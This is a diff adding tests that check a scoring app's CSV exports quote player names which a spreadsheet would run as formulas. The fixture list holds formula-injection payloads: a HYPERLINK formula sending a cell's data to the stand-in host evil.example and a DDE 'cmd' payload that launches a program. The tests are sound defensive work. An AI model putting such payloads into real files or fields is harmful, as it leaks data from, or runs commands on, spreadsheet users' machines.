@@ -5,10 +5,10 @@ from __future__ import annotations
 import csv
 import io
 
-from scoring.api.renderers import STANDINGS_COLUMNS
+from scoring.api.renderers import STANDINGS_COLUMNS, csv_cell
 from scoring.selectors.standings import HAND_COLUMNS
 
-from .support import standings_url, table_of
+from .support import single_hand_league, standings_url, table_of
 
 INTEGERS = ("player", "games", "wins", "total_points", "hands", "moons", "queens", "clean_hands")
 FLOATS = ("win_rate", "average_place", "points_per_game", "points_per_hand", "rating")
@@ -151,3 +151,48 @@ def test_standings_csv_errors_keep_the_one_json_error_body(api, qq_league):
     missing = api.get("/api/v1/leagues/999999/standings.csv")
     assert missing.status_code == 404
     assert missing.json()["errors"][0]["code"] == "not_found"
+
+
+# --- Formulas: a name a spreadsheet would run is written as text ---------------------------------
+
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+]
+
+
+def test_names_a_spreadsheet_would_run_are_quoted_in_every_csv_and_points_stay_numbers(api, owner):
+    league = single_hand_league(
+        owner, "formulas", FORMULA_NAMES, [[(n, i + 1) for i, n in enumerate(FORMULA_NAMES)]]
+    )
+    quoted = sorted(f"'{name}" for name in FORMULA_NAMES)
+    for url in (
+        f"/api/v1/leagues/{league.league.pk}/standings.csv",
+        f"/api/v1/clubs/{league.league.club_id}/standings.csv",
+        standings_url(league.league, "format=csv"),
+    ):
+        _, rows = parse(api.get(url))
+        assert sorted(r["name"] for r in rows) == quoted
+        assert sorted(int(r["total_points"]) for r in rows) == [0, 5, 8, 13]
+    _, hands = parse(api.get(f"/api/v1/leagues/{league.league.pk}/hands.csv"))
+    assert sorted(r["name"] for r in hands) == quoted
+    assert sorted(int(r["points"]) for r in hands) == [0, 5, 8, 13]
+
+
+def test_a_negative_score_in_hands_csv_is_written_as_a_number(api, qq_league):
+    _, rows = parse(api.get(f"/api/v1/leagues/{qq_league.league.pk}/hands.csv"))
+    assert "-26" in {r["score"] for r in rows}  # Cleo's moon: a number, not quoted text
+
+
+def test_text_that_starts_a_formula_after_a_tab_or_return_is_quoted_too():
+    assert [csv_cell(v) for v in ("\t=1+1", "\r=1+1", "Ann", "", None, -26, -1.5)] == [
+        "'\t=1+1",
+        "'\r=1+1",
+        "Ann",
+        "",
+        "",
+        -26,
+        -1.5,
+    ]
